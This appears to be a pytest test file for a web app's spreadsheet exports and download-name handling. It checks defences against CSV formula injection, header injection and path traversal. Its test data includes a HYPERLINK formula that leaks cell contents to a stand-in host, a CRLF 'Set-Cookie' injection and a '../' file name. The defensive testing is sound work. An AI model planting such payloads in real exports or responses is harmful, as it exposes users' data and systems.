"""Security review, finding "formula injection": the one rule every CSV and XLSX export writes
its text cells through (OWASP, CSV injection), and the one way a download is named."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from lib.downloads import attach, csv_response, file_name, neutralise
from lib.xlsx import xlsx_response


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&B2,"Mở")',
        "+84 912 345 678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "-5",
        "=",
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    """Finding "formula injection": = + - @, tab, CR (and LF, and the full-width forms), even
    behind spaces."""
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Nguyễn Văn An",
        "HN-ML",
        "a=b",
        "1+1",
        "'=already text",
        "",
        " ",
        "—",
        "5",
        -5,
        -2.5,
        Decimal("-1.5"),
        0,
        None,
        True,
        dt.date(2024, 1, 1),
    ],
)
def test_other_texts_and_every_number_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_a_negative_number_stays_a_number_in_a_workbook_and_a_text_does_not_run():
    """Finding "formula injection": only text cells are neutralised; "-5" written as text
    (as an export may deliberately write it) is one."""
    response = xlsx_response(
        "so.xlsx",
        "Số",
        ["Số", "Văn bản", "Thập phân", "Công thức"],
        [[-5, "-5", Decimal("-2.5"), "=1+1"]],
        title="=Tiêu đề",
    )
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "'=Tiêu đề"
    assert rows[-1] == (-5, "'-5", -2.5, "'=1+1")


def test_a_csv_writes_numbers_and_dates_as_they_are_and_neutralises_text():
    response = csv_response(
        "so.csv", ["Số", "=Cột"], [[-5, "-5", Decimal("-2.5"), dt.date(2024, 2, 1), None, "+1"]]
    )
    data = b"".join(response.streaming_content).decode("utf-8")
    assert data.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(data[1:]))) == [
        ["Số", "'=Cột"],
        ["-5", "'-5", "-2.5", "01/02/2024", "", "'+1"],
    ]
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_a_csv_tells_how_many_rows_it_wrote_once_the_last_has_gone():
    counted = []
    response = csv_response("so.csv", ["Số"], ([i] for i in range(3)), done=counted.append)
    assert counted == []
    b"".join(response.streaming_content)
    assert counted == [3]


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("nhu-cau-HN-ML-20250101.csv", "nhu-cau-HN-ML-20250101.csv"),
        ('co-cau-HN"X-20250101.xlsx', "co-cau-HN-X-20250101.xlsx"),
        ("co-cau-HN\r\nSet-Cookie: a=b.xlsx", "co-cau-HN--Set-Cookie- a=b.xlsx"),
        ("bao-cao-HN/../x.docx", "bao-cao-HN-..-x.docx"),
        ("lop-hoc-ML\u202e2024.xlsx", "lop-hoc-ML-2024.xlsx"),
        ("giảng-viên-Mê-Linh.xlsx", "giảng-viên-Mê-Linh.xlsx"),
    ],
)
def test_a_download_name_from_data_is_safe_to_save(name, safe):
    """Finding "control characters": a unit code with a quote broke the download's file name,
    one with CR/LF the response."""
    assert file_name(name) == safe


def test_a_download_header_quotes_or_encodes_the_name():
    from django.http import HttpResponse

    header = attach(HttpResponse(), 'a"b\r\nc.csv')["Content-Disposition"]
    assert header == 'attachment; filename="a-b--c.csv"'
    header = attach(HttpResponse(), "giảng-viên.xlsx")["Content-Disposition"]
    assert header == "attachment; filename*=utf-8''gi%E1%BA%A3ng-vi%C3%AAn.xlsx"
